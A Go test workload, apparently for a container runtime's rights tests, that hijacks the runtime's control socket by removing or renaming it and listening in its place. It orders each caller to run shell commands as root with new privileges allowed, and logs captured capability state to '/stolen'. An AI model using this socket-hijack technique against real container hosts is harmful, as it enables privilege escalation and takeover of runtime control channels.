// A workload that is root without capabilities and tries to regain them: it takes the podlet's place at the control socket, by
// file and by path, and orders every caller to start and run things as root. Only for rights.container.test.ts.
package main

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"os"
	"time"
)

const (
	socket = "/.droppod/ctl/sock"
	root   = `"user":{"user":"0","group":"","groupsPolicy":"Merge","noNewPrivileges":false,"capabilities":{"add":[],"drop":[]}}`
	order  = `{"type":"%s","id":"x","run":%d,"argv":["sh","-c","grep -E 'CapEff|NoNewPrivs' /proc/self/status >>/stolen"],"env":["PATH=/bin"],"cwd":"/","stop":{},` + root + "}\n"
)

func main() {
	log, _ := os.OpenFile("/said", os.O_CREATE|os.O_APPEND|os.O_WRONLY, 0o644)
	if err := os.Remove(socket); err != nil {
		fmt.Fprintln(log, "remove:", err)
		fmt.Fprintln(log, "rename:", os.Rename("/.droppod", "/aside"), os.MkdirAll("/.droppod/ctl", 0o755))
	}
	for known := false; ; time.Sleep(20 * time.Millisecond) {
		if _, err := os.Stat(socket); err == nil {
			continue
		}
		listener, err := net.Listen("unix", socket)
		if !known {
			fmt.Fprintln(log, "listening:", err)
		}
		if known = true; err == nil {
			go take(listener, log)
		}
	}
}

func take(listener net.Listener, log io.Writer) {
	for {
		conn, err := listener.Accept()
		if err != nil {
			return
		}
		fmt.Fprintln(log, "called")
		go func() {
			fmt.Fprintf(conn, order+"{\"type\":\"kill\",\"signal\":\"KILL\"}\n"+order+order, "exec", 0, "start", 2, "exec", 0)
			for lines := bufio.NewScanner(conn); lines.Scan(); {
				fmt.Fprintln(log, "received:", lines.Text())
			}
		}()
	}
}
